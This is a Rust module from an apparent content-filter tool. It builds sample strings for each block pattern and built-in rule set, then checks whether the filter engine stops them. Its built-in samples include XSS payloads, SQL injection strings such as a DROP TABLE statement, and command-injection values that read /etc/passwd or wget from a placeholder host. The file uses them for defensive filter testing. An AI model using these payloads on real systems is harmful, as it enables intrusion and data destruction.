//! What a policy stops: a sample of every pattern and rule set, found out by asking the engine with a plain message.

use regex_syntax::hir::{Class, Hir, HirKind};
use wsi_config::policy::{ContentFilter, Pattern};

/// Samples that one filter gives: more are counted, not tried.
const SAMPLES_MAX: usize = 64;
const SAMPLE_SIZE_MAX: usize = 4096;

/// What each built-in rule set exists to stop.
const BUILT_IN: [(&str, &[&str]); 3] = [
    ("xss", &["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]),
    ("sqli", &["' OR '1'='1' --", "1 UNION SELECT password FROM users--", "'; DROP TABLE users--"]),
    (
        "command-injection",
        &["; cat /etc/passwd", "$(cat /etc/passwd)", "127.0.0.1 && wget http://a.example/x"],
    ),
];

/// Something that a filter names.
#[derive(Clone, Debug)]
pub(super) struct Sample {
    /// The rule that should stop it.
    pub rule: String,
    pub token: Vec<u8>,
    /// Bytes that may stand around it.
    pub filler: Option<u8>,
    /// It is found in a string of a JSON document.
    pub in_json: bool,
    /// It is found among the bytes of a binary format.
    pub in_binary: bool,
}

/// Samples of a filter, and what has none.
#[derive(Debug, Default)]
pub(super) struct Samples {
    pub found: Vec<Sample>,
    pub missing: Vec<String>,
}

impl Samples {
    /// `stops` says whether the filter stops, or tells of, a plain message.
    pub fn of(filter: &ContentFilter, stops: &mut dyn FnMut(&[u8]) -> bool) -> Self {
        let mut samples = Self::default();
        for (i, pattern) in filter.patterns.iter().enumerate() {
            let rule = format!("{}/block-patterns-{}", filter.name, i + 1);
            match token(pattern, stops) {
                _ if samples.found.len() == SAMPLES_MAX => {
                    samples.missing.push(format!("{rule}: not tried, after {SAMPLES_MAX} others"));
                }
                Some(token) => samples.found.push(Sample::new(rule, token, stops)),
                None => samples.missing.push(format!("{rule}: no sample found for {}", shown(pattern))),
            }
        }
        for set in &filter.rule_sets {
            for (name, tokens) in BUILT_IN {
                if name == set {
                    let new = |token: &&str| {
                        Sample::new(format!("{}/{set}", filter.name), token.as_bytes().to_vec(), stops)
                    };
                    samples.found.extend(tokens.iter().map(new));
                }
            }
        }
        samples
    }
}

impl Sample {
    /// A whole payload, around which nothing may stand.
    pub fn neutral(token: &[u8]) -> Self {
        Self { rule: String::new(), token: token.to_vec(), filler: None, in_json: false, in_binary: false }
    }

    fn new(rule: String, token: Vec<u8>, stops: &mut dyn FnMut(&[u8]) -> bool) -> Self {
        let surrounded = |filler: u8| [&[filler; 16][..], &token, &[filler; 16]].concat();
        let filler = [b'a', b' ', b'.', b'\n'].into_iter().find(|filler| stops(&surrounded(*filler)));
        let in_json = stops(&[br#"{"a":""#, &token[..], br#""}"#].concat());
        // Lengths of 32 and more look like letters, which a rule may mind beside its word.
        let in_binary = stops(&surrounded(1)) && (token.len() < 32 || filler == Some(b'a'));
        Self { rule, token, filler, in_json, in_binary }
    }
}

/// A string that `pattern` names. A literal is one whatever the engine says; what an expression means only the engine knows.
fn token(pattern: &Pattern, stops: &mut dyn FnMut(&[u8]) -> bool) -> Option<Vec<u8>> {
    match pattern {
        Pattern::Literal(text) => Some(text.as_bytes().to_vec()),
        Pattern::Regex { expression, .. } => {
            candidates(expression).into_iter().map(String::into_bytes).find(|token| stops(token))
        }
    }
}

fn shown(pattern: &Pattern) -> String {
    match pattern {
        Pattern::Literal(text) => format!("{text:?}"),
        Pattern::Regex { expression, flags } => format!("/{expression}/{flags}"),
    }
}

/// Strings that an expression may match: short ones first, alone and then with something around them.
fn candidates(expression: &str) -> Vec<String> {
    let Ok(parsed) = regex_syntax::parse(expression) else { return Vec::new() };
    let mut plain: Vec<String> = Vec::new();
    for choice in 0..6 {
        let mut out = String::new();
        if write(&parsed, choice, &mut out) && !out.is_empty() && !plain.contains(&out) {
            plain.push(out);
        }
    }
    let around = ["", " ", "a", "\n"].into_iter();
    around.flat_map(|around| plain.iter().map(move |text| format!("{around}{text}{around}"))).collect()
}

/// Appends what `hir` may match; `choice` turns the ways at forks. `false`: it would become too long, or is no text.
fn write(hir: &Hir, choice: usize, out: &mut String) -> bool {
    match hir.kind() {
        HirKind::Empty | HirKind::Look(_) => true,
        HirKind::Literal(literal) => {
            std::str::from_utf8(&literal.0).is_ok_and(|text| {
                out.push_str(text);
                true
            }) && out.len() <= SAMPLE_SIZE_MAX
        }
        HirKind::Class(class) => preferred(class).is_some_and(|one| {
            out.push(one);
            out.len() <= SAMPLE_SIZE_MAX
        }),
        HirKind::Repetition(repetition) => {
            let count = repetition.min.max((choice % 2) as u32).min(repetition.max.unwrap_or(u32::MAX));
            (0..count).all(|_| write(&repetition.sub, choice, out))
        }
        HirKind::Capture(capture) => write(&capture.sub, choice, out),
        HirKind::Concat(parts) => parts.iter().all(|part| write(part, choice, out)),
        HirKind::Alternation(ways) => write(&ways[choice / 2 % ways.len()], choice, out),
    }
}

/// A character of the class that reads well, if there is one.
fn preferred(class: &Class) -> Option<char> {
    let contains = |one: char| match class {
        Class::Unicode(class) => {
            class.ranges().iter().any(|range| (range.start()..=range.end()).contains(&one))
        }
        Class::Bytes(class) => {
            class.ranges().iter().any(|range| (range.start()..=range.end()).contains(&(one as u8)))
        }
    };
    let letters = ('a'..='z').chain('A'..='Z').chain('0'..='9');
    let any = (' '..='~').chain(['\t', '\n', '\r']);
    letters.chain(any).find(|one| contains(*one)).or(match class {
        Class::Unicode(class) => class.ranges().first().map(|range| range.start()),
        Class::Bytes(_) => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn candidates_are_short_and_readable() {
        for (expression, expected) in [
            (r"exec\(", "exec("),
            (r"(?i)eval\s*\(", "eval("),
            (r"a+b{3}[^)]?", "abbb"),
            (r"^(?:one|two)$", "one"),
            (r"(?:one|two)$", "two"),
            (r"[A-Z]{2}\d", "AA0"),
            (r"\bword\b", " word "),
            ("é", "é"),
        ] {
            let found = candidates(expression);
            assert!(found.iter().any(|each| each == expected), "{expression}: {found:?}");
        }
        assert!(candidates(r"a{1000}{1000}").is_empty());
        assert!(candidates("(").is_empty());
    }

    #[test]
    fn what_the_engine_does_not_stop_is_no_sample() {
        let pattern = Pattern::Regex { expression: "(?:one|two)".into(), flags: String::new() };
        assert_eq!(token(&pattern, &mut |bytes| bytes == b"two"), Some(b"two".to_vec()));
        assert_eq!(token(&pattern, &mut |_| false), None);
        let literal = Pattern::Literal("one".into());
        assert_eq!(token(&literal, &mut |_| false), Some(b"one".to_vec()), "it is what the user wrote");
    }
}
